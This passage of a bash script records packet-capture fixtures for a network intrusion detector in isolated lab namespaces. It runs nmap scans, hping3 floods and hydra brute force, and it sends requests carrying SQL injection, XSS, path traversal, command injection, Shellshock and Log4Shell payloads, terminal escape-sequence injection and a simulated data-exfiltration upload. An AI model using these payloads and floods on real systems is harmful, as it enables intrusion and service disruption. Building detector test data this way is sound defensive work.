	snp_log "  -> fixtures/$name: $n packets, $(cap_encap "$FIX/$name"), $(stat -c %s "$FIX/$name") bytes"
}

nmap_a() { snp_in_a timeout 900 nmap "$@" | sed -n '/^PORT\|open\|Not shown\|Nmap done/s/^/    /p'; }

# ---------------------------------------------------------------------------------------------
# Recorders, one per fixture

NMAP_TCP=(-Pn -n -T4 --top-ports 1000 "$SNP_IP_V")

rec_tcp_scan() { # NAME FLAG
	tcpdump_start "$1"
	nmap_a "$2" "${NMAP_TCP[@]}"
	cap_stop
	finish "$1"
}

rec_nmap_syn_pcap() { rec_tcp_scan nmap-syn.pcap -sS; }
rec_nmap_connect_pcap() { rec_tcp_scan nmap-connect.pcap -sT; }
rec_nmap_fin_pcap() { rec_tcp_scan nmap-fin.pcap -sF; }
rec_nmap_null_pcap() { rec_tcp_scan nmap-null.pcap -sN; }
rec_nmap_xmas_pcap() { rec_tcp_scan nmap-xmas.pcap -sX; }
rec_nmap_ack_pcap() { rec_tcp_scan nmap-ack.pcap -sA; }
rec_nmap_maimon_pcap() { rec_tcp_scan nmap-maimon.pcap -sM; }

rec_nmap_udp_pcap() {
	tcpdump_start nmap-udp.pcap
	nmap_a -Pn -n -sU -T4 --top-ports 100 --max-retries 1 "$SNP_IP_V"
	cap_stop
	finish nmap-udp.pcap
}

rec_nmap_syn_ipv6_pcap() {
	tcpdump_start nmap-syn-ipv6.pcap
	nmap_a -6 -Pn -n -sS -T4 --top-ports 200 "$SNP_IP6_V"
	cap_stop
	finish nmap-syn-ipv6.pcap
}

rec_benign_http_pcap() {
	tcpdump_start benign-http.pcap
	benign_http_requests
	cap_stop
	finish benign-http.pcap
}

rec_benign_ssh_pcap() {
	tcpdump_start benign-ssh.pcap
	ssh_session
	ssh_session
	ssh_session
	cap_stop
	finish benign-ssh.pcap
}

rec_flood() { # NAME [hping3 options] — 2 s flood, keep the first 5000 packets
	local name=$1
	shift
	tcpdump_start "$name.full" -B 65536
	snp_in_a timeout 2 hping3 -S --flood -p 80 "$@" "$SNP_IP_V" 2>&1 | sed 's/^/    /' || true
	cap_stop
	snp_log "  full capture: $(cap_packets "$OUT/$name.full") packets, keeping 1-5000"
	editcap -F pcap -r "$OUT/$name.full" "$OUT/$name" 1-5000
	rm -f "$OUT/$name.full"
	finish "$name"
}
rec_hping3_synflood_pcap() { rec_flood hping3-synflood.pcap; }
rec_hping3_synflood_randsrc_pcap() { rec_flood hping3-synflood-randsrc.pcap --rand-source; }

rec_sll() { # NAME DLT
	local enc
	cap_start "$1" tcpdump -n -U -s 0 -Z root -i any -y "$2" -w "$OUT/$1"
	nmap_a -sS -Pn -n -T4 --top-ports 100 "$SNP_IP_V"
	cap_stop
	enc=$(cap_encap "$OUT/$1")
	[[ $enc == "$3" ]] || snp_die "$1: encapsulation is '$enc', wanted '$3'"
	finish "$1"
}
rec_nmap_syn_any_sll_pcap() { rec_sll nmap-syn-any-sll.pcap LINUX_SLL linux-sll; }
rec_nmap_syn_any_sll2_pcap() { rec_sll nmap-syn-any-sll2.pcap LINUX_SLL2 linux-sll2; }

rec_nmap_syn_pcapng() {
	local f=$OUT/nmap-syn.pcapng ifs
	cap_start nmap-syn.pcapng dumpcap -q -n -s 0 -i "$SNP_IF_V" -i lo -w "$f"
	# some traffic on the victim's own loopback, so both interfaces have packets
	snp_in_v curl --noproxy '*' -sS -o /dev/null "http://127.0.0.1/"
	nmap_a -sS -Pn -n -T4 --top-ports 200 "$SNP_IP_V"
	snp_in_v curl --noproxy '*' -g -sS -o /dev/null "http://[::1]/hello.txt"
	snp_in_v curl --noproxy '*' -sS -o /dev/null "http://127.0.0.1/data.json"
	cap_stop
	ifs=$(capinfos -M -I "$f" | grep -c 'Interface #' || true)
	[[ $(file_format "$f") == pcapng && $ifs -eq 2 ]] || snp_die "nmap-syn.pcapng: want pcapng with 2 interfaces, got $(file_format "$f") with $ifs"
	finish nmap-syn.pcapng
}

rec_nmap_syn_ns_pcap() {
	local magic
	tcpdump_start nmap-syn-ns.pcap --time-stamp-precision=nano
	nmap_a -sS -Pn -n -T4 --top-ports 100 "$SNP_IP_V"
	cap_stop
	magic=$(od -An -tx1 -N4 "$OUT/nmap-syn-ns.pcap" | tr -d ' \n')
	[[ $magic == 4d3cb2a1 || $magic == a1b23c4d ]] || snp_die "nmap-syn-ns.pcap: magic $magic is not nanosecond pcap"
	finish nmap-syn-ns.pcap
}

# --- VLAN fixtures ----------------------------------------------------------------------------
# A dedicated veth pair is the VLAN "trunk" (snp-ta in the attacker, snp-tv in the victim; IPv6
# off so only the test traffic is on it). Tagging is done by the kernel: 802.1Q/802.1ad
# sub-interfaces when the kernel has the 8021q module, otherwise (e.g. kernels built without
# CONFIG_VLAN_8021Q) two tiny tcx BPF programs on each trunk end push the tags on egress and pop
# them on ingress with bpf_skb_vlan_push/pop. Either way the capture on the victim's trunk veth
# holds real tagged frames of a real curl/http.server conversation.
TRUNK_A=snp-ta
TRUNK_V=snp-tv
TAGGER_PIDS=()

write_vlan_tagger() {
	cat >"$SNP_TMP/vlan-tagger.py" <<'PY'
"""vlan-tagger IFACE TAG [TAG ...] — TAG = 8021q:VID | 8021ad:VID, innermost first.
Attaches two tcx BPF programs to IFACE: egress pushes the tags, ingress pops them. They stay
attached while this process lives (the BPF links are tied to its file descriptors)."""
import ctypes, os, signal, socket, struct, sys

SYS_BPF = 321  # x86_64
BPF_PROG_LOAD, BPF_LINK_CREATE = 5, 28
BPF_PROG_TYPE_SCHED_CLS = 3
BPF_TCX_INGRESS, BPF_TCX_EGRESS = 46, 47
FN_SKB_VLAN_PUSH, FN_SKB_VLAN_POP = 18, 19
PROTO = {"8021q": 0x8100, "8021ad": 0x88A8}
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

def insn(code, dst=0, src=0, off=0, imm=0):
    return struct.pack("<BBhi", code, (src << 4) | dst, off, imm)

def program(tags, push):
    code = insn(0xBF, 6, 1)  # r6 = skb
    for proto, vid in tags:
        code += insn(0xBF, 1, 6)  # r1 = skb
        if push:  # innermost first: the next push moves this tag into the frame
            code += insn(0xB7, 2, imm=socket.htons(proto)) + insn(0xB7, 3, imm=vid)
            code += insn(0x85, imm=FN_SKB_VLAN_PUSH)
        else:  # one pop per tag
            code += insn(0x85, imm=FN_SKB_VLAN_POP)
    return code + insn(0xB7, 0, imm=0) + insn(0x95)  # return TCX_PASS

def bpf(cmd, attr):
    buf = ctypes.create_string_buffer(attr, 160)
    fd = libc.syscall(SYS_BPF, cmd, buf, 160)
    if fd < 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    return fd

def load(code, name):
    insns = ctypes.create_string_buffer(code, len(code))
    lic = ctypes.create_string_buffer(b"GPL")
    log = ctypes.create_string_buffer(65536)
    attr = struct.pack("<IIQQIIQII16s", BPF_PROG_TYPE_SCHED_CLS, len(code) // 8,
                       ctypes.addressof(insns), ctypes.addressof(lic), 1, len(log),
                       ctypes.addressof(log), 0, 0, name.encode()[:15])
    try:
        return bpf(BPF_PROG_LOAD, attr)
    except OSError as e:
        sys.exit(f"vlan-tagger: BPF_PROG_LOAD: {e}\n{log.value.decode(errors='replace')}")

tags = [(PROTO[k], int(v)) for k, v in (t.split(":") for t in sys.argv[2:])]
ifindex = socket.if_nametoindex(sys.argv[1])
links = [bpf(BPF_LINK_CREATE, struct.pack("<IIII", load(program(tags, True), "snp_vlan_push"), ifindex, BPF_TCX_EGRESS, 0)),
         bpf(BPF_LINK_CREATE, struct.pack("<IIII", load(program(tags, False), "snp_vlan_pop"), ifindex, BPF_TCX_INGRESS, 0))]
for s in (signal.SIGTERM, signal.SIGINT):
    signal.signal(s, lambda *_: sys.exit(0))
print(f"vlan-tagger: attached on {sys.argv[1]}: {' '.join(sys.argv[2:])}", flush=True)
while True:
    signal.pause()
PY
}

kernel_has_vlan() { # can this kernel make VLAN sub-interfaces? (probe inside the attacker ns)
	if ip -n "$SNP_NS_A" link add snp-vlprobe type dummy 2>/dev/null; then
		if ip -n "$SNP_NS_A" link add link snp-vlprobe name snp-vlprobe.9 type vlan id 9 2>/dev/null; then
			ip -n "$SNP_NS_A" link del snp-vlprobe
			return 0
		fi
		ip -n "$SNP_NS_A" link del snp-vlprobe
	fi
	return 1
}

# vlan_up PREFIX TAG… — trunk veth, tags innermost first (8021q:300 8021ad:200), addresses
# PREFIX.1 (attacker) and PREFIX.2 (victim) on the innermost VLAN.
vlan_up() {
	local prefix=$1 ns end h top t kind vid proto py
	shift
	for ns in "$SNP_NS_A" "$SNP_NS_V"; do
		ip netns exec "$ns" sysctl -q -w net.ipv6.conf.default.disable_ipv6=1
	done
	ip -n "$SNP_NS_A" link add "$TRUNK_A" type veth peer name "$TRUNK_V" netns "$SNP_NS_V"
	snp_csum_off "$SNP_NS_A" "$TRUNK_A"
	snp_csum_off "$SNP_NS_V" "$TRUNK_V"
	if kernel_has_vlan; then
		snp_log "  tagging with VLAN sub-interfaces (8021q)"
		for ns in "$SNP_NS_A" "$SNP_NS_V"; do
			if [[ $ns == "$SNP_NS_A" ]]; then end=$TRUNK_A h=1; else end=$TRUNK_V h=2; fi
			ip -n "$ns" link set "$end" up
			top=$end
			local i
			for ((i = $#; i >= 1; i--)); do # outermost first
				t=${!i} kind=${t%%:*} vid=${t##*:}
				[[ $kind == 8021ad ]] && proto=802.1ad || proto=802.1Q
				ip -n "$ns" link add link "$top" name "$top.$vid" type vlan proto "$proto" id "$vid"
				top=$top.$vid
				ip -n "$ns" link set "$top" up
			done
			(($# > 1)) && ip -n "$ns" link set "$top" mtu $((1500 - 4 * ($# - 1)))
			ip -n "$ns" addr add "$prefix.$h/24" dev "$top"
		done
	else
		snp_log "  kernel has no 8021q: tagging with tcx BPF (bpf_skb_vlan_push/pop) on the trunk veth"
		write_vlan_tagger
		py=$(command -v /usr/bin/python3 || command -v python3)
		for ns in "$SNP_NS_A" "$SNP_NS_V"; do
			if [[ $ns == "$SNP_NS_A" ]]; then end=$TRUNK_A h=1; else end=$TRUNK_V h=2; fi
			ip -n "$ns" addr add "$prefix.$h/24" dev "$end"
			(($# > 1)) && ip -n "$ns" link set "$end" mtu $((1500 - 4 * ($# - 1)))
			ip netns exec "$ns" "$py" "$SNP_TMP/vlan-tagger.py" "$end" "$@" >"$SNP_TMP/tagger-$end.log" 2>&1 9>&- &
			TAGGER_PIDS+=($!)
			SNP_PIDS+=($!)
			snp_wait_pattern "$SNP_TMP/tagger-$end.log" 'attached' 10 "$!"
			ip -n "$ns" link set "$end" up
		done
	fi
	sleep 0.5
}

vlan_down() {
	local p keep=()
	for p in "${TAGGER_PIDS[@]}"; do kill -TERM "$p" 2>/dev/null || true; wait "$p" 2>/dev/null || true; done
	for p in "${SNP_PIDS[@]}"; do [[ " ${TAGGER_PIDS[*]} " == *" $p "* ]] || keep+=("$p"); done
	SNP_PIDS=("${keep[@]}")
	TAGGER_PIDS=()
	ip -n "$SNP_NS_A" link del "$TRUNK_A" # takes the peer and any sub-interfaces with it
	local ns
	for ns in "$SNP_NS_A" "$SNP_NS_V"; do
		ip netns exec "$ns" sysctl -q -w net.ipv6.conf.default.disable_ipv6=0
	done
}

vlan_curls() { # BASE_URL
	http_get "$1/"
	http_get "$1/hello.txt"
	http_get "$1/data.json"
	http_get "$1/missing.html"
	http_get "$1/img/blob.bin"
}

vlan_check() { # NAME ETHERTYPE-CHAIN — every frame must carry the tags
	local name=$1 want=$2 total tagged
	total=$(cap_packets "$OUT/$name")
	tagged=$(tshark -n -r "$OUT/$name" -T fields -e frame.protocols 2>/dev/null | grep -c "^$want" || true)
	((tagged > 0 && tagged == total)) || snp_die "$name: $tagged of $total frames start with $want"
	snp_log "  all $total frames tagged ($want)"
}

rec_vlan_http_pcap() {
	vlan_up 10.78.0 8021q:100
	cap_start vlan-http.pcap tcpdump -n -U -s 0 -Z root -i "$TRUNK_V" -w "$OUT/vlan-http.pcap"
	vlan_curls http://10.78.0.2
	cap_stop
	vlan_down
	vlan_check vlan-http.pcap eth:ethertype:vlan:ethertype:
	finish vlan-http.pcap
}

rec_qinq_http_pcap() {
	vlan_up 10.79.0 8021q:300 8021ad:200
	cap_start qinq-http.pcap tcpdump -n -U -s 0 -Z root -i "$TRUNK_V" -w "$OUT/qinq-http.pcap"
	vlan_curls http://10.79.0.2
	cap_stop
	vlan_down
	vlan_check qinq-http.pcap eth:ethertype:ieee8021ad:ethertype:vlan:ethertype:
	finish qinq-http.pcap
}

rec_benign_mixed_pcapng() {
	cap_start benign-mixed.pcapng dumpcap -q -n -s 0 -i "$SNP_IF_V" -w "$OUT/benign-mixed.pcapng"
	http_get "http://$SNP_IP_V/"
	http_get "http://$SNP_IP_V/hello.txt"
	ssh_session
	http_get "http://$SNP_IP_V/data.json"
	http_get "http://$SNP_IP_V/nothing-here"
	http_get "http://[$SNP_IP6_V]/index.html"
	ssh_session
	http_get "http://$SNP_IP_V/docs/" -I
	cap_stop
	[[ $(file_format "$OUT/benign-mixed.pcapng") == pcapng ]] || snp_die "benign-mixed.pcapng is not pcapng"
	finish benign-mixed.pcapng
}

# --- SSH brute force ------------------------------------------------------------------------
rec_hydra_ssh_pcap() {
	local pw=$SNP_TMP/hydra-passwords.txt i
	snp_require_tools hydra
	for ((i = 1; i <= 48; i++)); do printf 'wrong-password-%02d\n' "$i"; done >"$pw"
	tcpdump_start hydra-ssh.pcap
	# -I: ignore a restore file; -t 4: four parallel tasks (hydra's own advice for ssh).
	(cd "$SNP_TMP" && snp_in_a timeout 120 hydra -I -l root -P "$pw" -t 4 -o /dev/null "ssh://$SNP_IP_V" 2>&1 |
		sed -n '/\[DATA\]\|\[ATTEMPT\]\|valid password\|completed/s/^/    /p') || true
	cap_stop
	snp_log "  $(tshark -n -r "$OUT/hydra-ssh.pcap" -Y 'tcp.flags.syn == 1 && tcp.flags.ack == 0 && tcp.dstport == 22' 2>/dev/null | wc -l) connections to port 22"
	finish hydra-ssh.pcap
}

# --- terminal-injection fixture ------------------------------------------------------------
# Plain curl, nothing hand-made: --request-target sends the request target verbatim (curl's URL
# parser rejects control bytes in a URL, --path-as-is does not help there), and -H replaces the
# Host and User-Agent headers byte for byte. Every request is a separate connection, and each
# escaped feed line (request line + Host + UA) stays under ~100 columns so a 200-column terminal
# shows all of it. The log shows the bytes through printf %q in the C locale (so bytes >= 0x80
# are octal escapes too), never raw.
hostile_get() { # TARGET HOST USER-AGENT
	local code
	code=$(snp_in_a curl --noproxy '*' -sS -o /dev/null --max-time 5 -w '%{http_code}' \
		--request-target "$1" -H "Host: $2" -H "User-Agent: $3" "http://$SNP_IP_V/") || code="curl exit $?"
	LC_ALL=C printf '    %s  target=%q host=%q ua=%q\n' "$code" "$1" "$2" "$3"
}

rec_http_injection_pcap() {
	local f=$OUT/http-injection.pcap want got
	tcpdump_start http-injection.pcap
	hostile_get $'/\e[2Jcleared\e[31mred' "$SNP_IP_V" 'curl-csi'
	hostile_get '/clip' $'\e]52;c;SGVsbG8=\avictim' $'\e]8;;http://evil.example/\e\\click\e]8;;\e\\'
	hostile_get '/overwrite' $'good\rEVIL' $'abc\b\b\bXYZ'
	hostile_get $'/bidi-\xe2\x80\xaetxt.exe' "$SNP_IP_V" $'c1-\x9b2J-csi'
	hostile_get '/plain.html' "$SNP_IP_V" 'curl-benign'
	cap_stop
	# The raw bytes must be on the wire: CSI, OSC 52 with its BEL, OSC 8, CR and BS inside values,
	# U+202E and 0x9b (hex of the TCP payloads; the patterns are long enough to be unambiguous).
	got=$(tshark -n -r "$f" -Y http.request -T fields -e tcp.payload 2>/dev/null | tr -d '\n')
	for want in 1b5b324a 1b5b33316d 1b5d35323b633b 3d077669637469 1b5d383b3b 676f6f640d4556494c 6162630808085859 e280ae 9b324a; do
		[[ $got == *"$want"* ]] || snp_die "http-injection.pcap: bytes $want not found in the HTTP requests"
	done
	snp_log "  hostile bytes present on the wire ($(tshark -n -r "$f" -Y http.request 2>/dev/null | wc -l) requests)"
	finish http-injection.pcap
}

# --- payload-signature fixture -------------------------------------------------------------
# Plain curl from the attacker namespace, one connection per request: one request per attack
# class of payload signature, then three benign ones (an apostrophe in a name,
# a plain page, a browser User-Agent) that must not alert.
rec_http_attacks_pcap() {
	local b=http://$SNP_IP_V
	tcpdump_start http-attacks.pcap
	http_get "$b/?id=1%27%20OR%20%271%27=%271"                         # SQL_INJECTION
	http_get "$b/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"               # XSS
	http_get "$b/../../etc/passwd" --path-as-is                        # PATH_TRAVERSAL
	http_get "$b/?host=127.0.0.1%3Bwhoami"                             # COMMAND_INJECTION
	http_get "$b/cgi-bin/status" -A '() { :; }; /bin/bash -c id'       # SHELLSHOCK
	http_get "$b/" -H 'X-Api-Version: ${jndi:ldap://x/a}'              # LOG4SHELL
	http_get "$b/" -A 'sqlmap/1.7 (https://sqlmap.org)'                # SCANNER_USER_AGENT
	http_get "$b/?name=O%27Brien"                                      # benign
	http_get "$b/docs/readme.md"                                       # benign
	http_get "$b/hello.txt?v=2" -A 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' # benign
	cap_stop
	snp_log "  $(tshark -n -r "$OUT/http-attacks.pcap" -Y http.request 2>/dev/null | wc -l) HTTP requests"
	finish http-attacks.pcap
}

# --- FTP brute force ------------------------------------------------------------------------
# pyftpdlib (python3-pyftpdlib from apt) in the victim on port 21, one user (admin) whose
# password is not in hydra's list: every attempt is a real "530 Login incorrect".
rec_hydra_ftp_pcap() {
	local pw=$SNP_TMP/hydra-ftp-passwords.txt i ftp_pid
	snp_require_tools hydra
	/usr/bin/python3 -c 'import pyftpdlib' 2>/dev/null || snp_die "hydra-ftp.pcap needs python3-pyftpdlib (apt-get install -y python3-pyftpdlib)"
	mkdir -p "$SNP_TMP/ftp-root"
	cat >"$SNP_TMP/ftp-server.py" <<'PY'
import logging, sys
from pyftpdlib.authorizers import DummyAuthorizer
from pyftpdlib.handlers import FTPHandler
from pyftpdlib.servers import FTPServer
logging.basicConfig(level=logging.WARNING)
auth = DummyAuthorizer()
auth.add_user("admin", "not-in-the-list-7Qx", sys.argv[1], perm="elr")
FTPHandler.authorizer = auth
FTPHandler.banner = "snoopy test ftp ready"
FTPHandler.auth_failed_timeout = 0.1  # pyftpdlib waits 3 s after each wrong password by default
server = FTPServer(("0.0.0.0", 21), FTPHandler)
print("ftp listening", flush=True)
server.serve_forever()
PY
	ip netns exec "$SNP_NS_V" /usr/bin/python3 "$SNP_TMP/ftp-server.py" "$SNP_TMP/ftp-root" >"$SNP_TMP/ftp.log" 2>&1 9>&- &
	ftp_pid=$!
	SNP_PIDS+=("$ftp_pid")
	snp_wait_listen "$SNP_NS_V" 21
	for ((i = 1; i <= 40; i++)); do printf 'wrong-password-%02d\n' "$i"; done >"$pw"
	tcpdump_start hydra-ftp.pcap
	(cd "$SNP_TMP" && snp_in_a timeout 120 hydra -I -l admin -P "$pw" -t 4 -o /dev/null "ftp://$SNP_IP_V" 2>&1 |
		sed -n '/\[DATA\]\|valid password\|completed/s/^/    /p') || true
	cap_stop
	kill -TERM "$ftp_pid" 2>/dev/null || true
	wait "$ftp_pid" 2>/dev/null || true
	snp_log "  $(tshark -n -r "$OUT/hydra-ftp.pcap" -Y 'tcp.flags.syn == 1 && tcp.flags.ack == 0 && tcp.dstport == 21' 2>/dev/null | wc -l) connections to port 21," \
		"$(tshark -n -r "$OUT/hydra-ftp.pcap" -Y 'ftp.response.code == 530' 2>/dev/null | wc -l) x 530"
	finish hydra-ftp.pcap
}

# --- UDP and ICMP floods ----------------------------------------------------------------------
rec_proto_flood() { # NAME KEEP hping3-options… — 1 s flood from the real attacker address
	local name=$1 keep=$2
	shift 2
	tcpdump_start "$name.full" -B 65536
	snp_in_a timeout 1 hping3 --flood "$@" "$SNP_IP_V" 2>&1 | sed 's/^/    /' || true
	cap_stop
	snp_log "  full capture: $(cap_packets "$OUT/$name.full") packets, keeping 1-$keep"
	editcap -F pcap -r "$OUT/$name.full" "$OUT/$name" "1-$keep"
	rm -f "$OUT/$name.full"
	snp_log "  $(tshark -n -r "$OUT/$name" -Y "ip.src == $SNP_IP_A" 2>/dev/null | wc -l) packets from the attacker"
	finish "$name"
}
# UDP: the threshold is 5000 datagrams a second, and about half of the capture is the victim's
# port unreachables, so keep 12000 packets.
rec_hping3_udpflood_pcap() { rec_proto_flood hping3-udpflood.pcap 12000 --udp -p 7777; }
rec_hping3_icmpflood_pcap() { rec_proto_flood hping3-icmpflood.pcap 6000 --icmp; }

# --- big transfers: headers only, jumbo frames ------------------------------------------------
# The exfiltration detector counts wire bytes (the pcap record's orig_len), so a capture cut at
# 96 bytes still carries the whole transfer's size; MTU 9000 (jumbo frames) on the veth keeps
# the packet count, and so the file, small.
veth_mtu() { # MTU — both ends of the veth
	ip -n "$SNP_NS_A" link set "$SNP_IF_A" mtu "$1"
	ip -n "$SNP_NS_V" link set "$SNP_IF_V" mtu "$1"
}

PY_SERVER_PID=""
start_outside_http() { # ROOT — http.server (HTTP/1.1, keep-alive) on 10.77.0.1:8000 / [fd77::1]:8000
	ip netns exec "$SNP_NS_A" /usr/bin/python3 -m http.server 8000 --protocol HTTP/1.1 --bind :: --directory "$1" \
		>"$SNP_TMP/outside-http.log" 2>&1 9>&- &
	PY_SERVER_PID=$!
	SNP_PIDS+=("$PY_SERVER_PID")
	snp_wait_listen "$SNP_NS_A" 8000
}
stop_py_server() {
	kill -TERM "$PY_SERVER_PID" 2>/dev/null || true
	wait "$PY_SERVER_PID" 2>/dev/null || true
	PY_SERVER_PID=""
}

rec_exfil_upload_pcap() {
	cat >"$SNP_TMP/put-server.py" <<'PY'
"""PUT sink: reads the request body, discards it, answers 201."""
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
class Sink(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_PUT(self):
        left = int(self.headers.get("Content-Length", "0"))
        while left > 0:
            chunk = self.rfile.read(min(left, 1 << 20))
            if not chunk:
                break
            left -= len(chunk)
        self.send_response(201)
        self.send_header("Content-Length", "0")
        self.end_headers()
    def log_message(self, *args):
        pass
ThreadingHTTPServer(("0.0.0.0", 8000), Sink).serve_forever()
PY
	head -c 50000000 /dev/urandom >"$SNP_TMP/customer-db.tar.gz"
	ip netns exec "$SNP_NS_A" /usr/bin/python3 "$SNP_TMP/put-server.py" >"$SNP_TMP/put.log" 2>&1 9>&- &
	PY_SERVER_PID=$!
	SNP_PIDS+=("$PY_SERVER_PID")
	snp_wait_listen "$SNP_NS_A" 8000
	veth_mtu 9000
	tcpdump_start exfil-upload.pcap -s 96
	snp_in_v curl --noproxy '*' -sS -o /dev/null --max-time 60 -T "$SNP_TMP/customer-db.tar.gz" \
		-w '    %{http_code} PUT %{url_effective}: %{size_upload} bytes up\n' "http://$SNP_IP_A:8000/upload/customer-db.tar.gz"
	cap_stop
	veth_mtu 1500
	stop_py_server
	rm -f "$SNP_TMP/customer-db.tar.gz"
	snp_log "  wire bytes from the victim: $(tshark -n -r "$OUT/exfil-upload.pcap" -Y "ip.src == $SNP_IP_V" -T fields -e frame.len 2>/dev/null | awk '{s += $1} END {print s}')"
	finish exfil-upload.pcap
}

rec_benign_download_pcap() {
	local root=$SNP_TMP/mirror
	mkdir -p "$root/debian/dists/stable" "$root/debian/pool/main/s/snoopy"
	printf 'Origin: Test\nLabel: Test\nSuite: stable\nCodename: bookworm\n' >"$root/debian/dists/stable/InRelease"
	head -c 40000 /dev/urandom >"$root/debian/dists/stable/Packages.xz"
	head -c 25000000 /dev/urandom >"$root/debian/pool/main/s/snoopy/snoopy-data_1.0-1_all.deb"
	start_outside_http "$root"
	veth_mtu 9000
	tcpdump_start benign-download.pcap -s 96
	# one keep-alive connection, as apt does: the index files, then the package
	snp_in_v curl --noproxy '*' -sS --max-time 60 -A 'Debian APT-HTTP/1.3 (2.6.1)' \
		-w '    %{http_code} GET %{url_effective}: %{size_download} bytes\n' \
		-o /dev/null "http://$SNP_IP_A:8000/debian/dists/stable/InRelease" \
		-o /dev/null "http://$SNP_IP_A:8000/debian/dists/stable/Packages.xz" \
		-o /dev/null "http://$SNP_IP_A:8000/debian/pool/main/s/snoopy/snoopy-data_1.0-1_all.deb"
	cap_stop
	veth_mtu 1500
	stop_py_server
	finish benign-download.pcap
}

# --- web browsing ----------------------------------------------------------------------------
# A small site "outside" (10.77.0.1:8000 is taken by nothing else here; the site is served on
# port 80 by a second http.server in HTTP/1.1 mode so connections stay open between requests).
rec_benign_browsing_pcap() {
	local root=$SNP_TMP/site i page b assets=()
	mkdir -p "$root/static" "$root/img" "$root/news" "$root/blog/2024/05"
	printf 'body{font-family:sans-serif;margin:0 auto;max-width:60em}nav a{padding:0 .5em}\n%.0s' {1..40} >"$root/static/site.css"
	printf 'document.addEventListener("DOMContentLoaded",()=>{for(const a of document.querySelectorAll("a"))a.rel="noopener";});\n%.0s' {1..60} >"$root/static/app.js"
	for i in 1 2 3 4 5 6; do head -c $((6000 + i * 3000)) /dev/urandom >"$root/img/photo-$i.jpg"; done
	head -c 1150 /dev/urandom >"$root/favicon.ico"
	for page in index about contact news/index news/linux-6-9-released news/rust-in-the-kernel blog/2024/05/tuning-tcp blog/2024/05/why-ipv6; do
		printf '<!doctype html><html><head><title>%s</title><link rel="stylesheet" href="/static/site.css"><script src="/static/app.js?v=1.4.2"></script></head><body><nav><a href="/">Home</a><a href="/news/">News</a><a href="/about.html">About</a></nav><h1>%s</h1>%s</body></html>\n' \
			"$page" "$page" "$(printf '<p>Lorem ipsum dolor sit amet, consectetur adipiscing elit; it&#39;s "quoted" & <em>fine</em>.</p>%.0s' {1..30})" >"$root/$page.html"
	done
	ip netns exec "$SNP_NS_A" /usr/bin/python3 -m http.server 80 --protocol HTTP/1.1 --bind :: --directory "$root" \
		>"$SNP_TMP/site-http.log" 2>&1 9>&- &
	PY_SERVER_PID=$!
	SNP_PIDS+=("$PY_SERVER_PID")
	snp_wait_listen "$SNP_NS_A" 80
	tcpdump_start benign-browsing.pcap
	browse() { # BASE PAGE [ASSET…] — one page load on one keep-alive connection, browser headers
		local base=$1 ref=$1/ args=() u
		shift
		for u in "$@"; do args+=(-o /dev/null "$base$u"); done
		snp_in_v curl --noproxy '*' -g -sS --max-time 10 \
			-A 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' \
			-H 'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8' \
			-H 'Accept-Language: en-GB,en;q=0.5' -H "Referer: $ref" \
			-b 'session=6f1c2a9e0b7d4c3f; theme=dark; consent=analytics%3Dno%26ads%3Dno' \
			-w '    %{http_code} %{url_effective} (conn %{num_connects})\n' "${args[@]}"
	}
	b=http://$SNP_IP_A
	assets=(/static/site.css '/static/app.js?v=1.4.2' /favicon.ico)
	browse "$b" / "${assets[@]}" /img/photo-1.jpg /img/photo-2.jpg
	browse "$b" /about.html "${assets[@]}" /img/photo-3.jpg
	browse "$b" /news/ "${assets[@]}"
	browse "$b" /news/index.html "${assets[@]}" /img/photo-4.jpg
	browse "$b" '/news/linux-6-9-released.html?utm_source=rss&utm_medium=feed&utm_campaign=kernel' "${assets[@]}" /img/photo-5.jpg
	browse "$b" /news/rust-in-the-kernel.html "${assets[@]}" /img/photo-6.jpg
	browse "$b" '/search?q=select+a+good+linux+distro&lang=en&page=2' "${assets[@]}"
	browse "$b" '/search?q=%22union+station%22+cafe+%26+bar' "${assets[@]}"
	browse "$b" /blog/2024/05/tuning-tcp.html "${assets[@]}" /img/photo-2.jpg
	browse "$b" '/blog/2024/05/why-ipv6.html#comments' "${assets[@]}"
	browse "$b" /contact.html "${assets[@]}" /missing-logo.png
	browse "http://[$SNP_IP6_A]" / "${assets[@]}" /img/photo-1.jpg
	cap_stop
	stop_py_server
	finish benign-browsing.pcap
}

# --- DNS -------------------------------------------------------------------------------------
rec_benign_dns_pcap() {
	local q=$SNP_TMP/dns-queries.txt dns_pid n i
	snp_require_tools dnsmasq dig
	# dnsmasq (dnsmasq-base from apt: no system service) answers from its own records only
	ip netns exec "$SNP_NS_V" dnsmasq --keep-in-foreground --no-resolv --no-hosts --no-poll --user=root \
		--listen-address="$SNP_IP_V" --listen-address="$SNP_IP6_V" --bind-interfaces --port=53 --pid-file="$SNP_TMP/dnsmasq.pid" \
		--local=/home.test/ --domain=home.test \
		--host-record=www.home.test,10.77.0.2,fd77::2 --host-record=mail.home.test,10.77.0.2 \
		--host-record=nas.home.test,10.77.0.20 --host-record=printer.home.test,10.77.0.21 \
		--host-record=router.home.test,10.77.0.254,fd77::fe --host-record=laptop.home.test,10.77.0.1,fd77::1 \
		--mx-host=home.test,mail.home.test,10 --txt-record=home.test,"v=spf1 mx -all" \
		--srv-host=_imaps._tcp.home.test,mail.home.test,993 --cname=files.home.test,nas.home.test \
		--ptr-record=2.0.77.10.in-addr.arpa,www.home.test --ptr-record=1.0.77.10.in-addr.arpa,laptop.home.test \
		>"$SNP_TMP/dnsmasq.log" 2>&1 9>&- &
	dns_pid=$!
	SNP_PIDS+=("$dns_pid")
	for ((i = 0; i < 50; i++)); do ip netns exec "$SNP_NS_V" ss -Hlun 'sport = :53' | grep -q . && break; sleep 0.1; done
	: >"$q"
	for n in www mail nas printer router laptop files; do
		printf '%s.home.test A\n%s.home.test AAAA\n' "$n" "$n" >>"$q"
	done
	printf 'home.test MX\nhome.test TXT\n_imaps._tcp.home.test SRV\nnothere.home.test A\nold-pc.home.test AAAA\n' >>"$q"
	tcpdump_start benign-dns.pcap
	for ((i = 1; i <= 6; i++)); do # six rounds, as clients re-resolving when TTLs expire
